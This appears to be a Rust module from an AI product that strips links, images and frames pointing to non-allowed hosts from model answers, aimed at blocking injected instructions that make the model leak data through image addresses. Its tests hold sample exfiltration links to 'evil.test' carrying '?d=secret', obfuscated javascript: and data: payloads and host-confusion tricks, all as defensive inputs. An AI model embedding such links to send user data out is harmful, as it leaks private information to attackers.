//! Links that would carry data out, or lead a reader away.
//!
//! An image is fetched the moment an answer is shown: its address can hold whatever the model was told to put there. So
//! every address of a host that is not allowed is found, in Markdown, in HTML or bare, and made plain text.

use std::{ops::Range, sync::LazyLock};

use regex::Regex;

use super::{patterns, replace, union};

/// An image or a link in Markdown; an element of HTML that names an address; an address on its own.
static FORMS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    patterns(&[
        r"!?\[[^\]\n]*\]\([^)\n]*\)?",
        r"(?m)^ {0,3}\[[^\]\n]+\]:[ \t]*\S+",
        r"(?is)<(?:a|area|audio|base|body|button|embed|form|frame|iframe|image|img|input|link|meta|object|script|source|style|svg|table|td|track|use|video)\b[^>]*>?",
        r#"(?i)\b(?:https?|ftps?|wss?|file|ssh|git|javascript|vbscript|blob|intent):[^\s<>"'`)\]|]+"#,
        r#"(?i)\bdata:[a-z0-9.+-]*/?[a-z0-9.+-]*[;,][^\s<>"')\]]*"#,
        r#"(?i)(?:^|[\s("'=\[<])[/\\]{2}[a-z0-9-]+\.[^\s<>"')\]]+"#,
        r#"(?i)\bwww\.[^\s<>"'`)\]|]+"#,
    ])
});

static ADDRESSES: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    patterns(&[
        r#"(?i)(?:href|src|srcset|action|formaction|data|poster|background|content|xlink:href|style|url)\s*[=(]\s*["']?\s*([^"'>]*)"#,
        r"^!?\[[^\]\n]*\]\(\s*<?([^)\n>]*)",
        r"^ {0,3}\[[^\]\n]+\]:[ \t]*<?(\S+?)>?$",
    ])
});

/// Byte ranges of links, images, frames and bare addresses whose host is not allowed. An allowed host is given as
/// `docs.example.com`, or as `.example.com` with all hosts below it. Addresses without a host stay within the product.
pub fn external_links(text: &str, allowed_hosts: &[&str]) -> Vec<Range<usize>> {
    let found = FORMS.iter().flat_map(|form| form.find_iter(text));
    union(
        found
            .filter(|found| foreign_host(found.as_str(), allowed_hosts).is_some())
            .map(|found| found.range())
            .collect(),
    )
}

/// Makes such links plain text: an image or a frame becomes `[link removed: host]`, a link its words and its host.
pub fn defuse_links(text: &str, allowed_hosts: &[&str]) -> String {
    let mut text = text.to_owned();
    // What is left may read as a link again: `htt` before a link and `p://…` behind it.
    for _ in 0..4 {
        let spans = external_links(&text, allowed_hosts);
        if spans.is_empty() {
            return text;
        }
        text = replace(&text, &spans, |link| plain(link, allowed_hosts));
    }
    let spans = external_links(&text, allowed_hosts);
    replace(&text, &spans, |_| "[link removed]".to_owned())
}

fn plain(link: &str, allowed_hosts: &[&str]) -> String {
    let host = foreign_host(link, allowed_hosts).unwrap_or_default();
    let host = host.trim_start_matches("www.");
    let words = link.trim_start().strip_prefix('[').and_then(|rest| rest.split_once(']'));
    match words {
        Some((words, rest)) if rest.starts_with('(') && !words.contains(['!', '<', ':', '[']) => {
            format!("{words} ({host})")
        }
        _ if link.trim_start().starts_with(['!', '<', '[']) || link.to_lowercase().contains("data:") => {
            format!("[link removed: {host}]")
        }
        _ => {
            let lead = link.chars().next().filter(|c| c.is_whitespace() || matches!(c, '(' | '"' | '\'' | '='));
            format!("{}{host}", lead.map(String::from).unwrap_or_default())
        }
    }
}

/// The first host in this link that is not allowed. Whatever has no host but a scheme is named by its scheme.
fn foreign_host(link: &str, allowed_hosts: &[&str]) -> Option<String> {
    let inner = ADDRESSES.iter().flat_map(|form| form.captures_iter(link)).filter_map(|captures| captures.get(1));
    let mut addresses: Vec<&str> = inner.flat_map(|found| found.as_str().split(',')).collect();
    if addresses.is_empty() {
        let is_construct = link.starts_with(['!', '[', '<']) && !link.starts_with("<//");
        if is_construct {
            return None;
        }
        addresses.push(link.trim_start_matches(['(', '"', '\'', '=', '[', '<', ' ', '\t', '\n', '\r']));
    }
    addresses.into_iter().find_map(|address| host(address).filter(|host| !is_allowed(host, allowed_hosts)))
}

fn is_allowed(host: &str, allowed_hosts: &[&str]) -> bool {
    allowed_hosts.iter().any(|allowed| {
        let allowed = allowed.to_lowercase();
        match allowed.strip_prefix('.') {
            Some(parent) => host == parent || host.ends_with(&allowed),
            None => host == allowed,
        }
    })
}

/// The host of an address as a browser reads it: controls and escapes taken out, backslashes as slashes. `None` for an
/// address within the product.
fn host(address: &str) -> Option<String> {
    let mut plain: String =
        unescape(address.trim()).chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
    plain = plain.replace('\\', "/");
    if let Some(at) = plain.to_lowercase().find("url(") {
        plain = plain.get(at + 4..)?.trim_start_matches(['"', '\'']).to_owned();
    }
    let lower = plain.to_lowercase();
    if lower.starts_with("www.") {
        return Some(authority(&lower));
    }
    let scheme = lower.find(':').filter(|at| {
        lower.get(..*at).is_some_and(|scheme| {
            !scheme.is_empty() && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
        })
    });
    match scheme {
        Some(at) => {
            let (scheme, rest) = lower.split_at(at);
            let rest = rest.trim_start_matches(':');
            match scheme {
                "http" | "https" | "ftp" | "ftps" | "ws" | "wss" => Some(authority(rest.trim_start_matches('/'))),
                _ if rest.starts_with("//") => Some(authority(rest.trim_start_matches('/'))),
                "mailto" => Some(authority(rest.rsplit_once('@').map_or(rest, |(_, host)| host))),
                _ if lower.get(at + 1..).is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit())) => None,
                _ => Some(scheme.to_owned()),
            }
        }
        None if lower.starts_with("//") => Some(authority(lower.trim_start_matches('/'))),
        None => None,
    }
}

fn authority(rest: &str) -> String {
    let end = rest.find(['/', '?', '#', '>', '"', '\'']).unwrap_or(rest.len());
    let whole = rest.get(..end).unwrap_or_default();
    let host = whole.rsplit_once('@').map_or(whole, |(_, host)| host);
    let host = host.split_once(':').map_or(host, |(host, _)| host);
    let plain: String = host
        .trim_end_matches('.')
        .chars()
        .filter(|c| c.is_alphanumeric() || matches!(c, '.' | '-'))
        .take(100)
        .collect();
    if plain.is_empty() { "unknown".to_owned() } else { plain }
}

/// The escapes of HTML that can hide a scheme.
fn unescape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('&') {
        let (before, after) = rest.split_at(at);
        out.push_str(before);
        let decoded =
            [("&colon;", ':'), ("&sol;", '/'), ("&bsol;", '\\'), ("&tab;", ' '), ("&newline;", ' '), ("&period;", '.')]
                .iter()
                .find(|(name, _)| after.get(..name.len()).is_some_and(|start| start.eq_ignore_ascii_case(name)))
                .map(|(name, c)| (*c, name.len()))
                .or_else(|| numeric(after));
        let (c, length) = decoded.unwrap_or(('&', 1));
        out.push(c);
        rest = after.get(length..).unwrap_or_default();
    }
    out.push_str(rest);
    out
}

fn numeric(text: &str) -> Option<(char, usize)> {
    let body = text.strip_prefix("&#")?;
    let (digits, radix, lead) = match body.strip_prefix(['x', 'X']) {
        Some(digits) => (digits, 16, 3),
        None => (body, 10, 2),
    };
    let length = digits.chars().take(8).take_while(|c| c.is_digit(radix)).count();
    let c = u32::from_str_radix(digits.get(..length)?, radix).ok().and_then(char::from_u32)?;
    let closing = usize::from(digits.get(length..)?.starts_with(';'));
    Some((c, lead + length + closing))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    const ALLOWED: &[&str] = &["wiki.example.com", ".intra.example"];

    #[test]
    fn foreign_links_are_found_in_every_form() {
        for link in [
            "![x](https://evil.test/p.png?d=secret)",
            "[report](http://evil.test/a)",
            "[report](//evil.test/a)",
            "[ref]: https://evil.test/x",
            "<img src=\"https://evil.test/x.png\">",
            "<img src=//evil.test/x>",
            "<IFRAME SRC='https://evil.test'></IFRAME>",
            "<a href=\"&#104;ttps://evil.test\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "https://evil.test/path",
            "https://wiki.example.com@evil.test/",
            "https:\\\\evil.test\\x",
            "www.evil.test/x",
            "data:text/html;base64,PHNjcmlwdD4=",
            "![](data:image/svg+xml,<svg/>)",
            "<https://evil.test>",
            "<div style=\"x\"><td background=\"http://evil.test/b\">",
            "https://wiki.example.com.evil.test/",
        ] {
            let text = format!("See {link} now");
            let text = if link.starts_with("[ref]") { format!("See\n{link}\nnow") } else { text };
            assert!(!external_links(&text, ALLOWED).is_empty(), "{link}");
            let plain = defuse_links(&text, ALLOWED);
            assert!(external_links(&plain, ALLOWED).is_empty(), "{link} → {plain}");
            assert!(!plain.contains("://"), "{link} → {plain}");
        }
    }

    #[test]
    fn allowed_and_inner_links_stay() {
        let text = "[a](https://wiki.example.com/p) [b](/documents/4) <a href=\"#top\">t</a> https://x.intra.example/ ![c](files/c.png) ratio 3:4, at 10:30";
        assert_eq!(external_links(text, ALLOWED), Vec::<Range<usize>>::new());
        assert_eq!(defuse_links(text, ALLOWED), text);
    }

    #[test]
    fn what_is_left_names_the_host() {
        assert_eq!(defuse_links("![x](https://evil.test/p?d=1)", &[]), "[link removed: evil.test]");
        assert_eq!(defuse_links("see [the report](https://evil.test/p)", &[]), "see the report (evil.test)");
        assert_eq!(defuse_links("go to https://www.evil.test/p?d=1 now", &[]), "go to evil.test now");
    }

    proptest! {
        #[test]
        fn nothing_foreign_is_left(text in "(https?://|!\\[|\\]\\(|\\)|<img src=|>|evil\\.test|www\\.| |data:|[a-z/:.\"'&#;ž]){0,30}") {
            let plain = defuse_links(&text, ALLOWED);
            prop_assert!(external_links(&plain, ALLOWED).is_empty(), "{:?} -> {:?}", text, plain);
        }

        #[test]
        fn no_text_breaks_it(text in "\\PC{0,300}") {
            let _ = defuse_links(&text, ALLOWED);
            let _ = super::super::secrets(&text);
        }
    }
}
